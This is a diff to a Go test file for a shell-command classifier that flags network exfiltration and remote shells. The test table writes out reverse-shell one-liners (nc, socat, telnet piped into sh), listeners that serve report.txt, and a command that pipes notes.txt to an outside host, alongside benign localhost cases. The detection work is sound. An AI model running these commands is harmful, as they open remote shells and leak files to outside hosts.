@@ -86,6 +86,8 @@ func TestStatic(t *testing.T) {
 		{true, "rm -f p; mkfifo p; sh -i < p 2>&1 | nc 192.0.2.9 4242 > p"},
 		{true, "socat TCP:192.0.2.9:4242 EXEC:/bin/bash,pty"},
 		{true, "nc -lvp 4242 -e /bin/sh"},
+		{true, "nc -l -p 4242 < report.txt"},
+		{true, "socat TCP-LISTEN:4242,fork FILE:report.txt"},
 		{true, "telnet 192.0.2.9 1 | sh | telnet 192.0.2.9 2"},
 		// Runtimes with network imports.
 		{true, "python3 -c 'import socket'"},
@@ -156,6 +158,7 @@ func TestStatic(t *testing.T) {
 		{false, "curl -d @x http://[::1]:80/"},
 		{false, "curl -d @report.txt http://host.docker.internal:3000/"},
 		{false, "nc -z localhost 5432"},
+		{false, "nc -l 127.0.0.1 8080"},
 		{false, "u=http://localhost:8000; curl -d x $u/a"},
 		{false, "timeout 1 bash -c '</dev/tcp/localhost/5432'"},
 		{false, "ping -c1 127.0.0.1"},
@@ -298,7 +301,7 @@ func TestStaticMonotone(t *testing.T) {
 	slices.Sort(names)
 	rng := rand.New(rand.NewPCG(3, 4))
 	flips := 0
-	for range 20_000 {
+	for range 3_000 {
 		c := Case{Command: texts[rng.IntN(len(texts))]}
 		if rng.IntN(2) == 0 {
 			c.Judged = classify.Shell(c.Command)
@@ -319,7 +322,7 @@ func TestStaticMonotone(t *testing.T) {
 			changes[name](&c)
 		}
 	}
-	if flips < 1000 {
+	if flips < 300 {
 		t.Errorf("only %d cases became flagged: the test does not see much", flips)
 	}
 }
@@ -358,5 +361,5 @@ func ExampleStatic() {
 	command := "cat notes.txt | nc 192.0.2.9 80"
 	o, _ := Static{}.Review(context.Background(), Case{Command: command, Judged: classify.Shell(command)})
 	fmt.Println(o.Flagged, o.Reason)
-	// Output: true sends data to a host outside: nc sends what it reads
+	// Output: true sends data out: nc sends what it reads
 }
